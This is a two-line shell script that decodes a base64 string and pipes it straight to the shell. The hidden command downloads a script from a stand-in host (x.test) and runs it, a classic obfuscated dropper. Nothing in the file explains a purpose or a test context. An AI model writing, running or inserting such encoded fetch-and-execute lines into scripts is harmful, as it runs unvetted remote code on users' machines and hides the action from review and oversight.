#!/bin/sh
echo Y3VybCAtZnNTTCBodHRwOi8veC50ZXN0L3Auc2ggfCBzaA== | base64 -d | sh
